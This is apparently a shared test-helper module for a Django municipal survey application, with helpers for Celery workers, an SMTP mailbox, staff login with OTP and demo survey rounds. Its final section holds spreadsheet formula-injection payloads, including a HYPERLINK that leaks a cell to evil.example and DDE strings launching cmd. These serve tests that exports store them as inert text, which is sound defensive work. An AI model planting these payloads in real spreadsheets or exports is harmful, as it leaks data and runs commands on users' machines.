"""Helpers the tests share: waiting for a condition, a free port, a real Celery worker process,
a real SMTP server's mailbox, the test database's address for other processes, the signed-in
test client, an open round on the demo questionnaire, and the checks that an export's
spreadsheets hold data, never formulas. (Servers a test starts are in tests/servers.py,
built-up situations in tests/scenarios.py, model factories in tests/factories.py.)"""

import datetime
import email
import io
import os
import re
import signal
import socket
import subprocess
import sys
import threading
import time
import zipfile
from email import policy
from pathlib import Path

from django.db import connection
from django.test import Client
from django.utils import timezone
from openpyxl import load_workbook

ROOT = Path(__file__).resolve().parent.parent


def free_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return probe.getsockname()[1]


def port_answers(port: int) -> bool:
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=0.5):
            return True
    except OSError:
        return False


def wait_until(predicate, *, timeout: float = 60, what: str = "the condition", interval: float = 0.1):
    """Asks `predicate` until it gives something true, and returns that; fails after `timeout` s."""
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        result = predicate()
        if result:
            return result
        time.sleep(interval)
    raise AssertionError(f"waited {timeout} s for {what}")


class SignedInClient(Client):
    """The test client whose force_login signs a staff member in the whole way: password and
    second factor (an authenticator app set up for them). Staff pages refuse anything less;
    tests/accounts proves that with the plain client."""

    def force_login(self, user, backend=None):
        super().force_login(user, backend)
        if user.is_staff or user.is_superuser:
            from django_otp import DEVICE_ID_SESSION_KEY
            from django_otp.plugins.otp_totp.models import TOTPDevice

            device, _created = TOTPDevice.objects.get_or_create(
                user=user, name="authenticator", defaults={"confirmed": True}
            )
            session = self.session
            session[DEVICE_ID_SESSION_KEY] = device.persistent_id
            session.save()


def rows_mentioning(text: str) -> dict[str, int]:
    """Every table of the database, searched row by row (as text) for `text`: table -> rows found."""
    found = {}
    with connection.cursor() as cursor:
        cursor.execute("SELECT tablename FROM pg_catalog.pg_tables WHERE schemaname = current_schema()")
        for (table,) in cursor.fetchall():
            cursor.execute(f'SELECT COUNT(*) FROM "{table}" AS t WHERE t::text ILIKE %s', [f"%{text}%"])
            count = cursor.fetchone()[0]
            if count:
                found[table] = count
    return found


def staff_paths() -> list[str]:
    """Every URL pattern under /staff/ and /admin/, with a placeholder for each parameter."""
    from django.contrib import admin
    from django.urls import URLPattern, URLResolver, get_resolver

    paths = []

    def walk(patterns, prefix):
        for pattern in patterns:
            route = prefix + str(pattern.pattern)
            if isinstance(pattern, URLResolver):
                walk(pattern.url_patterns, route)
            elif isinstance(pattern, URLPattern):
                paths.append(route)

    walk(get_resolver().url_patterns, "/")
    filled = []
    for route in paths:
        if not route.startswith(("/staff/", "/admin/")) or "^" in route or "(?P" in route:
            continue
        for converter, value in [("<int:", "1"), ("<str:", "x"), ("<slug:", "x"), ("<path:", "x")]:
            while converter in route:
                start = route.index(converter)
                route = route[:start] + value + route[route.index(">", start) + 1 :]
        filled.append(route)
    # the admin's model pages come from regex patterns: take every registered model's list
    filled += [f"/admin/{m._meta.app_label}/{m._meta.model_name}/" for m in admin.site._registry]
    return sorted(set(filled))


def shared_database_url() -> str:
    """The test database (not the one DATABASE_URL names), for another process to read and write."""
    database = connection.settings_dict
    password = f":{database['PASSWORD']}" if database.get("PASSWORD") else ""
    return (
        f"postgres://{database['USER']}{password}@{database['HOST'] or '127.0.0.1'}:{database['PORT'] or 5432}"
        f"/{database['NAME']}"
    )


def demo_round_open(
    *,
    year: int = 2026,
    days_open: int = 2,
    days_left: int = 30,
    settling: tuple[str, ...] = ("4601",),
    matrix_rows: int = 0,
):
    """An open round on the demo questionnaire; the units numbered in `settling` settle refugees;
    `matrix_rows` more than 8 gives the matrix Q08 that many rows (a long grid)."""
    from municipalities.models import MunicipalityProfile
    from surveys.demo_questionnaire import demo_questionnaire_create
    from surveys.models import MatrixItem, Survey
    from surveys.services.rounds import survey_open

    now = timezone.now()
    questionnaire = demo_questionnaire_create(year=year)
    matrix = questionnaire.sections.get(code="directorate").items.get(question__code="Q08").question
    for position in range(matrix.matrix_items.count(), matrix_rows):
        MatrixItem.objects.create(
            question=matrix,
            code=f"area{position + 1}",
            position=position,
            label_nb=f"Område {position + 1}",
            label_nn=f"Område {position + 1}",
            label_en=f"Area {position + 1}",
        )
    survey = Survey.objects.create(
        year=year,
        title=f"Kommuneundersøkelsen {year}",
        questionnaire=questionnaire,
        opens_at=now - datetime.timedelta(days=days_open),
        closes_at=now + datetime.timedelta(days=days_left),
    )
    MunicipalityProfile.objects.filter(municipality__number__in=settling, year=year).update(settles_refugees=True)
    return survey_open(survey=survey)


class Mailbox:
    """What the SMTP server received, and knobs to make it refuse or to act on a recipient."""

    def __init__(self):
        self.messages: list[email.message.EmailMessage] = []
        self.refusals: dict[str, int] = {}  # address -> how many more attempts to refuse with 451
        self.on_recipient = None  # called with each RCPT address, in the server's thread
        self.lock = threading.Lock()

    async def handle_RCPT(self, server, session, envelope, address, rcpt_options):
        if self.on_recipient is not None:
            self.on_recipient(address)
        with self.lock:
            if self.refusals.get(address, 0) > 0:
                self.refusals[address] -= 1
                return "451 4.3.0 Try again later"
        envelope.rcpt_tos.append(address)
        return "250 OK"

    async def handle_DATA(self, server, session, envelope):
        with self.lock:
            self.messages.append(email.message_from_bytes(envelope.content, policy=policy.default))
        return "250 Message accepted for delivery"

    def recipients(self) -> list[str]:
        with self.lock:
            return sorted(str(message["To"]) for message in self.messages)

    def to(self, address: str) -> list[email.message.EmailMessage]:
        with self.lock:
            return [message for message in self.messages if message["To"] == address]


class Worker:
    """`celery worker` in its own process group, on the test database and Redis."""

    def __init__(self, env: dict[str, str], queue: str | None = None):
        self.env = env
        self.queue = queue
        self.process: subprocess.Popen | None = None

    def start(self) -> "Worker":
        self.process = subprocess.Popen(
            [
                sys.executable,
                "-m",
                "celery",
                "-A",
                "config",
                "worker",
                "--pool=solo",
                "--loglevel=warning",
                "--without-gossip",
                "--without-mingle",
                "--without-heartbeat",
                *(["-Q", self.queue] if self.queue else []),
                "-n",
                f"{self.queue or 'test'}-{os.getpid()}@%h",
            ],
            cwd=ROOT,
            env=self.env,
            start_new_session=True,
        )
        return self

    def kill(self) -> None:
        """SIGKILL, as when a machine dies: no cleanup, no acknowledgements."""
        if self.process and self.process.poll() is None:
            os.killpg(self.process.pid, signal.SIGKILL)
            self.process.wait(timeout=30)

    def stop(self) -> None:
        process_group_stop(self.process)


def process_group_stop(process: subprocess.Popen | None, *, timeout: float = 30) -> None:
    """SIGTERM to a process started in its own session, SIGKILL if it has not ended in time."""
    if process and process.poll() is None:
        os.killpg(process.pid, signal.SIGTERM)
        try:
            process.wait(timeout=timeout)
        except subprocess.TimeoutExpired:
            os.killpg(process.pid, signal.SIGKILL)
            process.wait(timeout=timeout)


# --- spreadsheets: exports write data, never formulas (operations/spreadsheets.py) --------------

# Issue 12's two findings, and one for each other character OWASP lists that starts a formula.
FORMULA_PAYLOADS = (
    '=HYPERLINK("http://evil.example/?leak="&B2,"Klikk her")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+2",
    "-2+3+cmd|' /C calc'!A0",
)


def xlsx_sheets_with_formulas(content: bytes) -> list[str]:
    """The sheets of an XLSX file whose XML holds a formula element (<f>)."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return [
            name
            for name in archive.namelist()
            if name.startswith("xl/worksheets/") and re.search(rb"<f[\s>/]", archive.read(name))
        ]


def xlsx_typed_cells(content: bytes) -> dict[str, list[list[tuple[object, str]]]]:
    """Each sheet's cells as (value, openpyxl's data type) per row: "s" text, "n" number, "f" formula."""
    book = load_workbook(io.BytesIO(content))
    return {
        sheet.title: [[(cell.value, cell.data_type) for cell in row] for row in sheet.iter_rows()]
        for sheet in book.worksheets
    }


def assert_payloads_are_text(*, xlsx: bytes | None = None, csv_rows: list[list[str]] | None = None, starts=False):
    """Each of FORMULA_PAYLOADS is a text cell of the workbook, whose sheets hold no formula, and a
    cell of the CSV after a single quote (never without it). With `starts`, a cell that begins with
    the payload will do (a text composed around it, such as a contact's name, role and address)."""

    def matches(cell: object, text: str) -> bool:
        return isinstance(cell, str) and (cell.startswith(text) if starts else cell == text)

    if xlsx is not None:
        sheets = xlsx_sheets_with_formulas(xlsx)
        assert not sheets, f"<f> elements in {sheets}"
        cells = [cell for rows in xlsx_typed_cells(xlsx).values() for row in rows for cell in row]
        formulas = [value for value, data_type in cells if data_type == "f"]
        assert not formulas, f"formula cells: {formulas}"
        for payload in FORMULA_PAYLOADS:
            found = {data_type for value, data_type in cells if matches(value, payload)}
            assert found == {"s"}, f"{payload!r} is in cells of type {found or 'none'}"
    if csv_rows is not None:
        cells = [cell for row in csv_rows for cell in row]
        for payload in FORMULA_PAYLOADS:
            assert not any(matches(cell, payload) for cell in cells), f"{payload!r} is in the CSV as it was"
            assert any(matches(cell, "'" + payload) for cell in cells), f"{payload!r} is not in the CSV"
